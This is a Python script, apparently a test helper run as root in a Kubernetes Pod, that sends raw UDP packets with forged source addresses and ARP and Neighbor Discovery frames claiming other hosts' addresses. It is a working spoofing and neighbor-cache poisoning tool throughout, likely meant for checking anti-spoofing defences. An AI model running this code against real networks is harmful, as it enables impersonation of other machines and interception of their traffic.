"""Run inside a Pod, as its root: sends packets, and claims of ARP and ND, from addresses that are somebody else's.

Arguments: the node's link-layer address, the victim's address and UDP port, and pairs of an address to send from and
the text to send; ``claim`` as the text tells the node over ARP or ND that the address is here.
"""

import ipaddress
import socket
import struct
import sys

PORT = 4711


def checksum(data):
    padded = data + b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(padded) // 2}H", padded))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packed(address):
    return ipaddress.ip_address(address).packed


def ip4(source, target, protocol, payload):
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0, packed(source), packed(target)
    )
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def ip6(source, target, protocol, payload, hops=64):
    return struct.pack("!IHBB16s16s", 6 << 28, len(payload), protocol, hops, packed(source), packed(target)) + payload


def summed(source, target, protocol, payload, place):
    """The payload with its checksum, as UDP and ICMPv6 have it, at this place."""
    pseudo = packed(source) + packed(target) + struct.pack("!II", len(payload), protocol)
    total = checksum(pseudo + payload)
    return payload[:place] + struct.pack("!H", total) + payload[place + 2 :]


def datagram(source, target, port, text):
    udp = summed(source, target, 17, struct.pack("!HHHH", PORT, port, 8 + len(text), 0) + text, 6)
    return ip6(source, target, 17, udp) if ":" in source else ip4(source, target, 17, udp)


def claims(address, own_link, gateway):
    """(EtherType, packet) of everything that says an address is at this end of the link."""
    if ":" not in address:
        for operation in (1, 2):
            head = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation)
            yield 0x0806, head + own_link + packed(address) + b"\xff" * 6 + packed(gateway)
        return
    option = b"\x02\x01" + own_link
    advertised = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + packed(address) + option
    for source in (address, own_address()):
        yield 0x86DD, ip6(source, "ff02::1", 58, summed(source, "ff02::1", 58, advertised, 2), 255)
    solicited = struct.pack("!BBHI", 135, 0, 0, 0) + packed(gateway) + b"\x01\x01" + own_link
    yield 0x86DD, ip6(address, "ff02::1", 58, summed(address, "ff02::1", 58, solicited, 2), 255)


def own_address():
    """The link-local address of this end."""
    with open("/proc/net/if_inet6") as file:
        for digits, _, _, scope, _, name in map(str.split, file):
            if name == "eth0" and scope == "20":
                return str(ipaddress.ip_address(bytes.fromhex(digits)))
    raise SystemExit("eth0 has no link-local address")


def main():
    node_link, target, port, *pairs = sys.argv[1:]
    there = bytes.fromhex(node_link.replace(":", ""))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
        link.bind(("eth0", 0))
        own_link = link.getsockname()[4]
        for source, text in zip(pairs[::2], pairs[1::2], strict=False):
            if text == "claim":
                frames = claims(source, own_link, target)
            else:
                frames = [(0x86DD if ":" in source else 0x0800, datagram(source, target, int(port), text.encode()))]
            for kind, packet in frames:
                link.send(there + own_link + struct.pack("!H", kind) + packet)


main()
